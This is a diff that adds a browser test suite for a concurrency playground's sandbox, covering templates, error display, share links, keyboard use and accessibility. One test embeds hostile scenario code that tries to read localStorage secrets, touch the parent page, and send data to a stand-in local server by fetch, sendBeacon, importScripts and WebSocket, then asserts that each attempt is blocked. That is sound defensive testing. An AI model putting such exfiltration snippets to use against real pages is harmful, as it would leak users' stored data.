@@ -1,0 +1,247 @@
+/**
+ * The playground in Chromium, as a reader (and a stranger's link) would use it: every template
+ * explores to its verdict; a syntax error and a throwing thread are shown at their lines; a link
+ * round-trips the code and the steps and runs nothing until Explore; a hostile link's code cannot
+ * reach the page, its storage, its parent or another host, and its endless loop is stopped while
+ * the page keeps working; keyboard only; axe-core in light and dark; 360 px.
+ */
+import { createServer } from 'node:http';
+import { describe, expect, it } from 'vitest';
+import type { BrowserContextOptions, Page } from 'playwright-core';
+import { siteInBrowser } from './support/site-in-browser.ts';
+import { axe, watch, type Watch } from './support/widget-browser.ts';
+import { templates } from '../src/playground/templates.ts';
+
+const site = siteInBrowser();
+
+/** A fresh page of the playground; fails on a console error or a CSP violation of the page unless `quiet`. */
+async function playground(run: (page: Page, w: Watch) => Promise<void>, options: BrowserContextOptions & { hash?: string; quiet?: boolean } = {}): Promise<void> {
+  const { hash = '', quiet = false, ...contextOptions } = options;
+  const context = await site.browser.newContext({ viewport: { width: 1280, height: 900 }, ...contextOptions });
+  await context.addInitScript(() => {
+    const w = window as unknown as { __csp: string[] };
+    w.__csp = [];
+    document.addEventListener('securitypolicyviolation', (e) => w.__csp.push(`${e.effectiveDirective}: ${e.blockedURI}`));
+  });
+  const page = await context.newPage();
+  const w = watch(page);
+  try {
+    await page.goto(`${site.server.url}/playground/${hash}`);
+    await page.waitForSelector('#playground[data-ready]');
+    await run(page, w);
+    if (!quiet) {
+      expect(w.errors, 'console errors').toEqual([]);
+      expect(await page.evaluate(() => (window as unknown as { __csp: string[] }).__csp), 'CSP violations of the page').toEqual([]);
+    }
+  } finally {
+    await context.close();
+  }
+}
+
+/** Presses Explore and waits for the verdict (or the error) it leads to. */
+async function exploreNow(page: Page): Promise<string> {
+  await page.click('#pg-explore');
+  await page.waitForFunction(() => document.querySelector('#playground')?.getAttribute('data-busy') === 'false');
+  return (await page.textContent('#pg-status')) ?? '';
+}
+
+/** Replaces the editor's code as a reader would: select all, then type (as one insertion). */
+async function setCode(page: Page, code: string): Promise<void> {
+  await page.click('#pg-editor .cm-content');
+  await page.keyboard.press('Control+A');
+  await page.keyboard.insertText(code);
+  await page.waitForFunction((c) => [...document.querySelectorAll('#pg-editor .cm-line')].map((l) => l.textContent).join('\n') === c, code);
+}
+
+/** The editor's code, line by line as shown. */
+function editorCode(page: Page): Promise<string> {
+  return page.evaluate(() => [...document.querySelectorAll('#pg-editor .cm-line')].map((l) => l.textContent).join('\n'));
+}
+
+async function shareLink(page: Page): Promise<string> {
+  await page.click('#pg-share');
+  await page.waitForFunction(() => (document.querySelector('#pg-link') as HTMLInputElement).value.includes('#play='));
+  return page.inputValue('#pg-link');
+}
+
+/** The 1-based lines of the editor marked with an error. */
+function errorLines(page: Page): Promise<number[]> {
+  return page.evaluate(() => [...document.querySelectorAll('#pg-editor .cm-line')].flatMap((l, i) => (l.querySelector('.cm-lintRange-error') ? [i + 1] : [])));
+}
+
+describe('the playground', () => {
+  it('explores every template to its verdict, the search starting in the sandbox', async () => {
+    await playground(async (page) => {
+      for (const t of templates) {
+        await page.selectOption('#pg-template', t.id);
+        expect(await page.evaluate(() => document.querySelector('#pg-view')?.childElementCount)).toBe(0);
+        const status = await exploreNow(page);
+        expect(status, t.id).toMatch(new RegExp(`^${t.expected}: `));
+        expect(await page.textContent('#pg-result .pg-verdict strong'), t.id).toBe(t.expected);
+        if (t.expected !== 'ok') expect(await page.locator('.pg-history li').count(), `${t.id}: the shortest failure is replayed`).toBeGreaterThan(1);
+      }
+    });
+  }, 120_000);
+
+  it('shows a syntax error and a throwing thread at their lines', async () => {
+    await playground(async (page) => {
+      await setCode(page, "import { scenario } from '@interleave/engine';\n\nconst a = ;\nexport default scenario('x', () => {});");
+      expect(await exploreNow(page)).toMatch(/^Error at line 3: SyntaxError/);
+      expect(await errorLines(page)).toEqual([3]);
+
+      const throwing = [
+        "import { scenario, mutex_lock, mutex_unlock } from '@interleave/engine';",
+        "export default scenario('throws', (k) => {",
+        "  const a = k.mutex('A');",
+        "  k.thread('T1', function* () {",
+        '    yield* mutex_lock(a);',
+        "    const map = null; map.get('x');",
+        '    yield* mutex_unlock(a);',
+        '  });',
+        '});',
+      ].join('\n');
+      await setCode(page, throwing);
+      expect(await errorLines(page)).toEqual([]);
+      expect(await exploreNow(page)).toMatch(/^Error at line 6: T1 threw TypeError/);
+      expect(await page.textContent('#pg-result .pg-verdict strong')).toBe('violation');
+      expect(await errorLines(page)).toEqual([6]);
+    });
+  });
+
+  it('round-trips the code and the steps through a link, and runs nothing until Explore', async () => {
+    let link = '';
+    const code = templates.find((t) => t.id === 'abba')!.code;
+    await playground(async (page) => {
+      await page.selectOption('#pg-template', 'abba');
+      expect(await exploreNow(page)).toMatch(/^deadlock/);
+      await page.locator('.pg-history button').nth(2).click(); // two steps into the shortest failure
+      await page.waitForFunction(() => document.querySelector('.pg-schedule')?.textContent?.startsWith('schedule: '));
+      await page.waitForFunction(() => document.querySelector('.pg-history button[aria-current="true"]')?.textContent?.startsWith('2.'));
+      const schedule = (await page.textContent('.pg-schedule'))!.replace('schedule: ', '');
+      link = await shareLink(page);
+      expect(link).toContain(`steps=${schedule}`);
+      await page.goto('about:blank');
+      await page.goto(link);
+      await page.waitForSelector('#playground[data-ready]');
+      expect(await editorCode(page)).toBe(code);
+      expect(await page.textContent('#pg-status')).toMatch(/Nothing has run/);
+      expect(await page.evaluate(() => document.querySelector('#pg-view')?.childElementCount)).toBe(0);
+      expect(await exploreNow(page)).toMatch(/the link's 2 steps are shown/);
+      expect(await page.textContent('.pg-schedule')).toBe(`schedule: ${schedule}`);
+    });
+  });
+
+  it("keeps a hostile link's code from the page, its storage, its parent and the network, and stops its endless loop", async () => {
+    const requests: string[] = [];
+    const other = createServer((req, res) => {
+      requests.push(req.url ?? '');
+      res.end('stolen');
+    });
+    other.on('upgrade', (req, socket) => {
+      requests.push(`upgrade ${req.url}`);
+      socket.destroy();
+    });
+    await new Promise<void>((ok) => other.listen(0, '127.0.0.1', ok));
+    const elsewhere = `http://127.0.0.1:${(other.address() as { port: number }).port}`;
+    const hostile = [
+      "import { scenario, atomic_inc } from '@interleave/engine';",
+      'const tried = [];',
+      'const attempt = (what, f) => { try { f(); tried.push(`${what}: reached`); } catch (e) { tried.push(`${what}: ${e.name}`); } };',
+      "attempt('document', () => { document.body.textContent = 'owned'; });",
+      "attempt('localStorage', () => localStorage.getItem('secret'));",
+      "attempt('parent', () => parent.document.title);",
+      "attempt('indexedDB', () => indexedDB.open('x'));",
+      `attempt('importScripts', () => importScripts('${elsewhere}/script.js'));`,
+      `fetch('${elsewhere}/fetch?' + tried.join()).catch(() => {});`,
+      `attempt('beacon', () => { if (!navigator.sendBeacon('${elsewhere}/beacon', 'x')) throw new Error('refused'); });`,
+      `try { new WebSocket('${elsewhere.replace('http', 'ws')}/ws'); } catch {}`,
+      'export default scenario(`tried: ${tried.join(", ")}`, (k) => {',
+      "  const n = k.atomic('n', 0);",
+      "  k.thread('spinner', function* () {",
+      '    yield* atomic_inc(n);',
+      '    for (;;) {}',
+      '  });',
+      '});',
+    ].join('\n');
+    try {
+      await playground(
+        async (page) => {
+          await page.evaluate(() => localStorage.setItem('secret', 'page data'));
+          const title = await page.title();
+          await setCode(page, hostile);
+          const link = await shareLink(page);
+          await page.goto('about:blank');
+          await page.goto(link);
+          await page.waitForSelector('#playground[data-ready]');
+          const clicked = Date.now();
+          const status = await exploreNow(page);
+          const stoppedAfter = Date.now() - clicked;
+          expect(status).toMatch(/^Stopped: the scenario ran for 3 s without taking a step/);
+          expect(stoppedAfter).toBeGreaterThan(2500);
+          const shown = (await page.textContent('#pg-view h3')) ?? '';
+          for (const what of ['document', 'localStorage', 'parent']) expect(shown).toContain(`${what}: ReferenceError`);
+          expect(shown).toContain('indexedDB: SecurityError');
+          expect(shown).toContain('importScripts: NetworkError');
+          expect(shown).not.toContain('reached');
+          expect(requests).toEqual([]);
+          // The page is untouched and keeps working: its storage, its title, its editor, a new exploration.
+          expect(await page.evaluate(() => localStorage.getItem('secret'))).toBe('page data');
+          expect(await page.title()).toBe(title);
+          await page.selectOption('#pg-template', 'abba');
+          expect(await exploreNow(page)).toMatch(/^deadlock/);
+          // Code that answers the page's requests itself with a forged reply gets a one-line refusal.
+          await setCode(page, `${templates.find((t) => t.id === 'abba')!.code}\nfor (let id = 1; id < 100; id++) postMessage({ id, body: { type: 'view', view: { forged: true } } });`);
+          expect(await exploreNow(page)).toBe('The sandbox answered with something this page cannot show.');
+          await page.selectOption('#pg-template', 'lost-wakeup');
+          expect(await exploreNow(page)).toMatch(/^deadlock/);
+        },
+        { quiet: true },
+      );
+    } finally {
+      await new Promise((ok) => other.close(ok));
+    }
+  }, 60_000);
+
+  it('can be used with the keyboard alone', async () => {
+    await playground(async (page) => {
+      const focused = () => page.evaluate(() => document.activeElement?.id || document.activeElement?.textContent || '');
+      for (let i = 0; i < 40 && (await focused()) !== 'pg-explore'; i++) await page.keyboard.press('Tab');
+      expect(await focused()).toBe('pg-explore');
+      await page.keyboard.press('Enter');
+      await page.waitForFunction(() => document.querySelector('#playground')?.getAttribute('data-busy') === 'false' && document.querySelector('#pg-result')?.childElementCount);
+      expect(await page.textContent('#pg-status')).toMatch(/^deadlock/);
+      // Back to the start of the history with the keyboard, then step a thread with its number key.
+      await page.locator('.pg-history button').first().focus();
+      await page.keyboard.press('Enter');
+      await page.waitForFunction(() => document.querySelector('.pg-history button[aria-current="true"]')?.textContent === 'Start');
+      await page.keyboard.press('1');
+      await page.waitForFunction(() => document.querySelector('.pg-history button[aria-current="true"]')?.textContent?.startsWith('1. driver'));
+      // The editor takes the focus, and Tab leaves it (no keyboard trap).
+      await page.focus('#pg-editor .cm-content');
+      await page.keyboard.press('Tab');
+      expect(await page.evaluate(() => !!document.activeElement?.closest('.cm-editor'))).toBe(false);
+    });
+  });
+
+  it.each(['light', 'dark'] as const)('has no serious or critical axe-core violations (%s)', async (colorScheme) => {
+    await playground(
+      async (page) => {
+        expect(await exploreNow(page)).toMatch(/^deadlock/);
+        await page.click('.pg-fold:not([open]) summary >> nth=0');
+        const serious = (await axe(page)).filter((v) => v.impact === 'serious' || v.impact === 'critical');
+        expect(serious).toEqual([]);
+      },
+      { colorScheme },
+    );
+  });
+
+  it('fits a 360 px screen without sideways scrolling', async () => {
+    await playground(
+      async (page) => {
+        expect(await exploreNow(page)).toMatch(/^deadlock/);
+        expect(await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth)).toBe(0);
+      },
+      { viewport: { width: 360, height: 800 } },
+    );
+  });
+});
